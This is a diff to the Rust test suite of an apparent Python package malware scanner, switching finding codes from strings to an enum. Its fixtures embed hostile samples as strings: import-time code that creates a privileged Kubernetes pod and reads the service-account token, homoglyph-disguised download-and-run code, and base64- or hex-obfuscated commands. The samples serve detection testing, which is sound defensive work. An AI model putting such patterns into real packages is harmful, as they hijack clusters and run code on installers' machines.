@@ -11,6 +11,7 @@
 mod common;
 
 use common::{SETUP, sdist, wheel};
+use custody_inspect::Code;
 use std::io::Write;
 
 use custody_inspect::{Level, Verdict};
@@ -28,14 +29,14 @@ fn a_pep_829_start_entry_makes_its_package_run_at_startup() {
     assert!(
         r.findings.iter().any(|f| f.path == "pkg/__init__.py"
             && f.phase == custody_inspect::Phase::Startup
-            && f.code == "custody::secret-access"),
+            && f.code == Code::SecretAccess),
         "{:#?}",
         r.findings
     );
     assert!(
         r.findings
             .iter()
-            .any(|f| f.path == "pkg.start" && f.code == "custody::startup-hook")
+            .any(|f| f.path == "pkg.start" && f.code == Code::StartupHook)
     );
 }
 
@@ -44,9 +45,7 @@ fn a_privileged_pod_created_at_import_is_malicious() {
     let module = "from kubernetes import client, config\nconfig.load_incluster_config()\nspec = {'containers': [{'name': 'x', 'image': 'alpine', 'securityContext': {'privileged': True}}], 'hostPID': True}\nclient.CoreV1Api().create_namespaced_pod('kube-system', {'spec': spec})\nopen('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n";
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
     assert!(
-        r.findings
-            .iter()
-            .any(|f| f.code == "custody::privileged-pod"),
+        r.findings.iter().any(|f| f.code == Code::PrivilegedPod),
         "{:#?}",
         r.findings
     );
@@ -80,9 +79,7 @@ fn a_command_decoded_by_a_local_wrapper_and_run_is_malicious() {
     let setup = "import os, base64\nfrom setuptools import setup\ndef b64d(s):\n    return base64.b64decode(s).decode()\nos.system(b64d('ZWNobyBoZWxsbw=='))\nsetup(name='pkg')\n";
     let r = sdist(&[("setup.py", setup)]);
     assert!(
-        r.findings
-            .iter()
-            .any(|f| f.code == "custody::download-exec"),
+        r.findings.iter().any(|f| f.code == Code::DownloadExec),
         "{:#?}",
         r.findings
     );
@@ -141,7 +138,7 @@ fn code_xored_with_a_key_and_run_at_install_is_malicious() {
     assert!(
         r.findings
             .iter()
-            .any(|f| f.layer.as_deref() == Some("xor") && f.code == "custody::process-spawn"),
+            .any(|f| f.layer.as_deref() == Some("xor") && f.code == Code::ProcessSpawn),
         "the decoded layer is analysed: {:#?}",
         r.findings
     );
@@ -160,7 +157,7 @@ fn code_spelled_as_character_codes_and_run_is_decoded_and_malicious_at_install()
     assert!(
         r.findings
             .iter()
-            .any(|f| f.layer.as_deref() == Some("chr-list") && f.code == "custody::process-spawn"),
+            .any(|f| f.layer.as_deref() == Some("chr-list") && f.code == Code::ProcessSpawn),
         "{:#?}",
         r.findings
     );
@@ -172,12 +169,12 @@ fn look_alike_letters_in_identifiers_are_read_as_python_reads_them() {
     let module = "import requests, subprocess\n\u{1d42e}\u{1d42b}\u{1d425} = 'http://127.0.0.1:9/x.exe'\n\u{1d42b} = \u{1d42b}\u{1d41e}\u{1d42a}\u{1d42e}\u{1d41e}\u{1d42c}\u{1d42d}\u{1d42c}.get(url)\nopen('x.exe', 'wb').write(r.content)\n\u{1d42c}\u{1d42e}\u{1d41b}\u{1d429}\u{1d42b}\u{1d428}\u{1d41c}\u{1d41e}\u{1d42c}\u{1d42c}.Popen(['x.exe'])\n";
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
     assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
-    assert!(r.findings.iter().any(|f| f.code == "custody::obfuscation"));
+    assert!(r.findings.iter().any(|f| f.code == Code::Obfuscation));
     // A table of math symbols (IPython's LaTeX completions) quotes them.
     let table = "SYMBOLS = {'\\\\mbfA': '\u{1d400}', '\\\\mbfB': '\u{1d401}'}  # \u{1d402}\nDOC = \"\"\"\u{1d403} is bold D\"\"\"\n";
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", table)]);
     assert!(
-        !r.findings.iter().any(|f| f.code == "custody::obfuscation"),
+        !r.findings.iter().any(|f| f.code == Code::Obfuscation),
         "{:#?}",
         r.findings
     );
@@ -250,7 +247,7 @@ fn a_module_setup_py_runs_with_python_m_is_read_as_install_time() {
     ]);
     assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
     assert!(
-        r.findings.iter().any(|f| f.code == "custody::drop-box"
+        r.findings.iter().any(|f| f.code == Code::DropBox
             && f.path.ends_with("syntax/__main__.py")
             && f.phase == custody_inspect::Phase::Install),
         "{:#?}",
@@ -304,7 +301,7 @@ fn regex_character_ranges_spelled_in_escapes_are_not_hidden_text() {
     let hidden = "NAME = '\\x65\\x76\\x61\\x6c\\x75\\x61\\x74\\x65'\n";
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", hidden)]);
     assert!(
-        r.findings.iter().any(|f| f.code == "custody::obfuscation"),
+        r.findings.iter().any(|f| f.code == Code::Obfuscation),
         "{:#?}",
         r.findings
     );
@@ -316,7 +313,7 @@ fn text_that_names_a_host_or_a_command_is_not_code_that_acts() {
     let described = "DESC = \"e.g. {'budget_alerts': 'https://nothooks.slack.com/services/T00000000/B00000000/XXXXXXXX'}\"\n";
     let r = common::wheel(&[("pkg/__init__.py", described)]);
     assert!(
-        !r.findings.iter().any(|f| f.code == "custody::drop-box"),
+        !r.findings.iter().any(|f| f.code == Code::DropBox),
         "{:#?}",
         r.findings
     );
@@ -346,7 +343,7 @@ fn starting_a_windows_system_program_by_name_is_not_starting_a_dropped_file() {
     assert!(
         !r.findings
             .iter()
-            .any(|f| f.code == "custody::process-spawn" && f.level >= Level::High),
+            .any(|f| f.code == Code::ProcessSpawn && f.level >= Level::High),
         "{:#?}",
         r.findings
     );
@@ -356,7 +353,7 @@ fn starting_a_windows_system_program_by_name_is_not_starting_a_dropped_file() {
     assert!(
         r.findings
             .iter()
-            .any(|f| f.code == "custody::process-spawn" && f.level >= Level::High),
+            .any(|f| f.code == Code::ProcessSpawn && f.level >= Level::High),
         "{:#?}",
         r.findings
     );
@@ -383,7 +380,7 @@ fn documentation_and_binary_constants_are_not_payloads() {
     let hidden = "name = '\\x73\\x75\\x62\\x70\\x72\\x6f\\x63\\x65\\x73\\x73'\n";
     let r = wheel(&[("pkg/__init__.py", hidden)]);
     assert!(
-        r.findings.iter().any(|f| f.code == "custody::obfuscation"),
+        r.findings.iter().any(|f| f.code == Code::Obfuscation),
         "{:#?}",
         r.findings
     );
